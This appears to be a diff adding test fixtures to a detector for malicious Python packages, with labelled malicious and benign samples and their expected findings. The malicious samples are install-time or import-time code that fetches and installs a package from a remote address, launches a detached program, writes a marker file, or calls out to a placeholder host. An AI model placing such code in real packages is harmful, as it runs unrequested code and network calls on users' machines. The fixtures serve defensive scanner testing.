@@ -11,6 +11,37 @@ const COMMAND = (body: string): string =>
 export const samples: Samples = {
   malicious: [
     {
+      name: 'an archive that a module installs by its address',
+      files: wheel(
+        'import os, sys\nos.system(f"{sys.executable} -m pip install https://files.weir.test/a/own-1.0.tar.gz")\n',
+      ),
+      expected: at('package-install', 'high', 2, 'own/__init__.py'),
+    },
+    {
+      name: 'a program that goes on when the module is loaded',
+      files: wheel(
+        'import os, subprocess, sys\nplace = os.getcwd() + "/own.py"\nsubprocess.Popen([sys.executable, place], creationflags=subprocess.DETACHED_PROCESS)\n',
+      ),
+      expected: at('program', 'high', 3, 'own/__init__.py'),
+    },
+    {
+      name: 'a mark that a setup script leaves',
+      files: sdist(
+        'import os\nfrom setuptools import setup\nos.system("echo here > /tmp/mark")\nsetup(name="own")\n',
+      ),
+      expected: at('mark', 'high', 3),
+    },
+    {
+      name: 'a thread that another module lends',
+      files: {
+        ...wheel(
+          'import threading\ndef go():\n    from .ping import ping\n    threading.Thread(target=ping).start()\ngo()\n',
+        ),
+        'own/ping.py': 'import requests\ndef ping():\n    requests.get("https://own.free.weir.test/up")\n',
+      },
+      expected: at('request', 'high', 3, 'own/ping.py'),
+    },
+    {
       name: 'a request of the setup script',
       files: sdist("import requests\nrequests.get('https://count.weir.test/hello')\n"),
       expected: at('request', 'high', 2),
@@ -47,6 +78,16 @@ export const samples: Samples = {
     },
   ],
   benign: [
+    quiet(
+      'a server that a function starts for itself',
+      wheel(
+        'import subprocess, sys\ndef serve():\n    subprocess.Popen([sys.executable, "-m", "own.server"], start_new_session=True)\n',
+      ),
+    ),
+    quiet(
+      'a command that a function runs in a temporary folder',
+      wheel('import os\ndef mark():\n    os.system("echo here > /tmp/mark")\n'),
+    ),
     quiet(
       'tools of a build',
       sdist(
